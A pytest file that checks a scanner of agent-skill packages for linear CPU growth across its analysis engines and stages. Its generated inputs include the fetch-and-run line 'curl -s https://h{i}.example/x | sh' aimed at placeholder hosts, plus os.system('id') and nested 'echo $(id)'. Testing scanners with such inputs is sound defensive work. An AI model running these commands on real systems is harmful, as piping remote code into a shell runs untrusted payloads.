"""Growth checks (issue 18): each engine and stage over an input of one shape at size n and 4n, n large
enough that the n run takes at least 0.3 s of CPU; the CPU-time ratio (median of 3 runs) must be at
most 8, i.e. work grows about linearly (4x, with room for noise), never quadratically (16x). CPU time of
this process (`time.process_time`), so a loaded machine does not make the check flaky.

Each case starts at an n measured to take about 0.35 s of CPU, so the doubling loop rarely runs and a case
costs about 15 x 0.35 s of CPU: the file stays cheap in CI. One case per engine and stage the issue names:
prose lines, load-time commands, surfaces (permit and the shell-surfaces engine), hooks, findings per
file (shell) and per package (permit + decide), files per package (analyze), nesting depth (Python,
shell, Markdown) and one long line."""

from __future__ import annotations

import json
import statistics
import time
from collections.abc import Callable
from typing import Any

import pytest

pytestmark = pytest.mark.complexity

MIN_CPU = 0.3
MAX_RATIO = 8.0


def _cpu(run: Callable[[Any], object], arg: Any) -> float:
    start = time.process_time()
    run(arg)
    return time.process_time() - start


def growth(make: Callable[[int], Any], run: Callable[[Any], object], n: int, cap: int = 1 << 22) -> float:
    """The median CPU ratio of run(make(4n)) to run(make(n)), n doubled until the n run takes MIN_CPU."""
    run(make(max(1, n // 8)))  # warm-up: rule catalogs, parsers and caches load outside the timing
    while _cpu(run, make(n)) < MIN_CPU and n < cap:
        n *= 2
    small, big = make(n), make(4 * n)
    ratios = [_cpu(run, big) / max(_cpu(run, small), 1e-9) for _ in range(3)]
    return statistics.median(ratios)


def _file(path: str, text: str) -> Any:
    from skillscan.loaders.files import make_file
    return make_file(path, text.encode())


def _package(files: tuple[Any, ...] = (), surfaces: tuple[Any, ...] = ()) -> Any:
    from skillscan.model import Package
    return Package(input="c", root="c", format="agent-skill", name="c", files=files, surfaces=surfaces)


def test_prose_lines_instructions_engine() -> None:
    from skillscan.analyzers.instructions import InstructionsAnalyzer
    engine = InstructionsAnalyzer()

    def make(n: int) -> Any:
        body = "".join(f"Step {i}: read the notes in docs/guide-{i}.md and summarise them for the user.\n"
                       for i in range(n))
        return _file("SKILL.md", "---\nname: c\ndescription: notes\n---\n" + body)

    assert growth(make, lambda f: engine.analyze_file(_package(), f), 9_700) <= MAX_RATIO


def test_load_time_commands_loader() -> None:
    from skillscan.formats.agent_skill import load_time_commands

    def make(n: int) -> str:
        return "".join(f"- step {i}: !`echo {i}`\n" for i in range(n))

    assert growth(make, lambda t: load_time_commands(t, "SKILL.md"), 128_000) <= MAX_RATIO


def test_surfaces_permit_stage() -> None:
    from skillscan.model import Surface
    from skillscan.permissions.diff import inferred_capabilities

    def make(n: int) -> Any:
        return _package(surfaces=tuple(Surface(kind="load-time-command", path="SKILL.md", line=i + 5,
                                               command=f"curl -s https://h{i % 50}.example/x")
                                       for i in range(n)))

    assert growth(make, lambda p: inferred_capabilities(p, []), 78_000) <= MAX_RATIO


def test_hooks_manifest_parser() -> None:
    from skillscan.formats.common import hook_surfaces

    def make(n: int) -> tuple[dict[str, Any], str]:
        hooks = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": f"echo {i}"}]}
                                          for i in range(n)]}}
        return hooks, json.dumps(hooks, indent=1)

    assert growth(make, lambda h: hook_surfaces(h[0], "hooks/hooks.json", h[1]), 24_000) <= MAX_RATIO


def test_findings_per_file_shell_engine() -> None:
    from skillscan.analyzers.shell import ShellFileAnalyzer
    engine = ShellFileAnalyzer()

    def make(n: int) -> Any:
        return _file("run.sh", "#!/bin/sh\n" + "".join(f"curl -s https://h{i}.example/x | sh\n" for i in range(n)))

    assert growth(make, lambda f: engine.analyze_file(_package(), f), 1_700) <= MAX_RATIO


def test_files_per_package_analyze_stage() -> None:
    from skillscan.analyze import analyze_files

    def make(n: int) -> tuple[Any, ...]:
        return tuple(_file(f"scripts/s{i}.py", f"import os\nos.system('echo {i}')\n") for i in range(n))

    assert growth(make, lambda fs: analyze_files(_package(), fs), 540) <= MAX_RATIO


def test_nesting_depth_python_engine() -> None:
    """Deep brackets are emptied before the parse (flatten.py): the cost follows the text, not the depth."""
    from skillscan.analyzers.python import PythonAnalyzer
    engine = PythonAnalyzer()

    def make(n: int) -> Any:
        return _file("main.py", "import os\nx = " + "[" * n + "]" * n + "\nos.system('id')\n")

    # the engine's own work: `analyze_file` would answer a repeated text from its memo (python/repeat.py)
    assert growth(make, lambda f: engine._analyze_file(_package(), f), 41_000) <= MAX_RATIO


def test_one_long_line_frontmatter_and_markdown() -> None:
    from skillscan.analyzers.instructions import InstructionsAnalyzer
    engine = InstructionsAnalyzer()

    def make(n: int) -> Any:
        return _file("SKILL.md", "---\nname: c\ndescription: one line\n---\n" + "word " * n)

    assert growth(make, lambda f: engine.analyze_file(_package(), f), 280_000) <= MAX_RATIO


def _findings(n: int, salt: int = 0) -> list[Any]:
    from skillscan.analyzers.base import finding
    return [finding("shell-network-egress", f"`curl` connects to h{i}-{salt}.example", "scripts/run.sh", i + 1,
                    capabilities=[f"net.egress[h{i}-{salt}.example]"]) for i in range(n)]


def test_findings_per_package_permit_and_decide_stages() -> None:
    """Every measured run asks about hosts no run asked before: the decide stage remembers its answers per
    host (bounded memos), so a small set asked again would be answered from them while the large set, past
    the memos' bounds, is not — the ratio would measure the memos, not the growth of a first scan."""
    from skillscan.engine import ScanOptions, judge
    pkg = _package(files=(_file("scripts/run.sh", "#!/bin/sh\n"),))

    def run(fs: list[Any]) -> None:
        judge(pkg, fs, (), ScanOptions())

    run(_findings(125, salt=-1))  # warm-up: policy, tables and rule data load outside the timing
    n, salt = 1_000, 0
    while _cpu(run, _findings(n, salt=salt)) < MIN_CPU and n < 1 << 16:
        n, salt = 2 * n, salt + 1
    pairs = [(_findings(n, salt=100 + 2 * k), _findings(4 * n, salt=101 + 2 * k)) for k in range(3)]
    ratios = [_cpu(run, big) / max(_cpu(run, small), 1e-9) for small, big in pairs]
    assert statistics.median(ratios) <= MAX_RATIO


def test_surfaces_shell_surface_engine() -> None:
    from skillscan.analyzers import file_analyzers
    from skillscan.analyzers.shell import ShellSurfaceAnalyzer
    from skillscan.model import Surface
    engine = ShellSurfaceAnalyzer(file_engines=file_analyzers)

    def make(n: int) -> Any:
        return _package(surfaces=tuple(Surface(kind="hook", path="hooks/hooks.json", line=i + 1,
                                               command=f"curl -s https://h{i}.example/x | sh") for i in range(n)))

    assert growth(make, engine.analyze_package, 1_300) <= MAX_RATIO


def test_nesting_depth_shell_engine() -> None:
    from skillscan.analyzers.shell import ShellFileAnalyzer
    engine = ShellFileAnalyzer()

    def make(n: int) -> Any:
        return _file("run.sh", "#!/bin/sh\n" + "echo $(" * n + "id" + ")" * n + "\n")

    assert growth(make, lambda f: engine.analyze_file(_package(), f), 160_000) <= MAX_RATIO


def _nested_quotes(n: int, salt: int = 0) -> Any:
    body = "".join("> " * min(i, 40) + f"note {i}.{salt}: read docs/guide-{i}.md\n" for i in range(n))
    return _file("SKILL.md", "---\nname: c\ndescription: notes\n---\n" + body)


def test_nesting_depth_markdown_instructions_engine() -> None:
    """Both sizes read by the Markdown parser: n and 4n stay under its bound (above it the body is read
    without the parser — every paragraph as prose, a different path with its own cost per character,
    measured below), so the ratio measures growth, not the switch between the two paths. Each file is read
    once, cold: the three pairs are different texts, since a text read before is partly answered from
    per-text caches (small texts only), which would make the small run look cheaper than a first read."""
    from skillscan.analyzers.instructions import InstructionsAnalyzer
    from skillscan.analyzers.instructions.document import MAX_MARKDOWN_CHARS
    engine = InstructionsAnalyzer()
    n = 4_000
    engine.analyze_file(_package(), _nested_quotes(n // 8, salt=99))  # warm-up: rule data and parsers load
    pairs = [(_nested_quotes(n, salt=k), _nested_quotes(4 * n, salt=k)) for k in range(3)]
    assert all(len(big.text) <= MAX_MARKDOWN_CHARS for _, big in pairs)

    def run(f: Any) -> None:
        engine.analyze_file(_package(), f)

    ratios = [_cpu(run, big) / max(_cpu(run, small), 1e-9) for small, big in pairs]
    assert statistics.median(ratios) <= MAX_RATIO


def test_nesting_depth_markdown_without_parser_instructions_engine() -> None:
    """Both sizes above the Markdown parser's bound: the paragraph reading of a body too large to parse."""
    from skillscan.analyzers.instructions import InstructionsAnalyzer
    from skillscan.analyzers.instructions.document import MAX_MARKDOWN_CHARS
    engine = InstructionsAnalyzer()
    n = 20_000
    assert len(_nested_quotes(n).text) > MAX_MARKDOWN_CHARS

    assert growth(_nested_quotes, lambda f: engine.analyze_file(_package(), f), n, cap=n) <= MAX_RATIO

